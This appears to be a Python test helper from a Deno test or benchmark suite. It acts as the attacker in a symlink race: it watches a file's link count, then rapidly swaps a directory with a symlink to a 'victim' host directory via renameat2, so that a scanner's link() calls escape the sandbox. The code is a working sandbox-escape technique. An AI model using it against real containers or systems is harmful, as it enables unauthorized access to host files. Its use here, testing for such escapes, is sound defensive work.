"""The attacker of the link-window test and of deno task bench's link-window case (issue 17 item 9).

Usage: link_window_swapper.py HOST_DIR VICTIM_DIR SECONDS [HOLD_S [COOLDOWN_S]]

HOST_DIR/sub is a real directory of files f00..; HOST_DIR/sub.alt is made a symlink to
VICTIM_DIR, which holds files of the same names (a host directory). For SECONDS, it watches
the link count of HOST_DIR/sub/f00: when it is 2, a scanner has just hard-linked the first
file of the directory (the side channel a container has), and `sub` and the symlink swap
names (renameat2 RENAME_EXCHANGE) as fast as they can for HOLD_S seconds (0.05), ending with
`sub` the real directory again, then stay quiet for COOLDOWN_S seconds (1.0). A link() the
scanner makes through `sub` in that time may reach a victim. Never touches VICTIM_DIR.
Prints {"triggers": N} on stdout. SWAPPER_NICE, if set, is passed to os.nice() first.
"""

import ctypes
import json
import os
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2

libc = ctypes.CDLL(None, use_errno=True)


def exchange(a: bytes, b: bytes) -> None:
    if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "renameat2")


def main() -> None:
    host, seconds = sys.argv[1], float(sys.argv[3])
    hold = float(sys.argv[4]) if len(sys.argv) > 4 else 0.05
    cooldown = float(sys.argv[5]) if len(sys.argv) > 5 else 1.0
    sub = os.path.join(host, "sub").encode()
    alt = os.path.join(host, "sub.alt").encode()
    first = os.path.join(host, "sub", "f00")
    if not os.path.lexists(alt):
        os.symlink(sys.argv[2], alt)
    if os.environ.get("SWAPPER_NICE"):
        os.nice(int(os.environ["SWAPPER_NICE"]))
    triggers = 0
    deadline = time.monotonic() + seconds
    checks = 0
    while True:
        checks += 1
        if checks % 4096 == 0 and time.monotonic() > deadline:
            break
        try:
            if os.lstat(first).st_nlink < 2:
                continue
        except FileNotFoundError:
            continue
        # Flip for HOLD seconds: Deno asks getcwd() for the pinned directory's path (which
        # follows the real directory to whichever name it has) and hands the kernel that path
        # plus the name; a flip in between makes the kernel walk the symlink.
        until = time.monotonic() + hold
        flips = 0
        while flips % 2 == 1 or time.monotonic() < until:
            exchange(sub, alt)
            flips += 1
        triggers += 1
        time.sleep(cooldown)
    print(json.dumps({"triggers": triggers}))


main()
